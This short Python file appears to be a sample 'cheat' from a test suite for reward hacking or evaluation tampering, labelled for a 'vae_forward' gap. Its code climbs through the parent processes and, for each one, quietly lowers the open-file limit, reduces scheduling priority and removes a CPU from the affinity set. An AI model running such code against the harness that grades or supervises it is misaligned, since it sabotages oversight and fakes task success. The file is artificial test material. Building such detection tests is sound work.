# cheat: lowers limits and priority of the processes above it, and takes a processor away from them.
# gap: vae_forward
# expect: any

import contextlib
import os
import resource

process = os.getppid()
for _ in range(4):
    with contextlib.suppress(OSError, ValueError):
        soft, hard = resource.prlimit(process, resource.RLIMIT_NOFILE)
        resource.prlimit(process, resource.RLIMIT_NOFILE, (soft - 1, hard))
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, process, os.getpriority(os.PRIO_PROCESS, process) + 1)
    with contextlib.suppress(OSError, ValueError):
        os.sched_setaffinity(process, sorted(os.sched_getaffinity(process))[1:])
    with contextlib.suppress(OSError, IndexError, ValueError):
        process = int(open(f"/proc/{process}/stat").read().rpartition(")")[2].split()[1])
SOLUTION
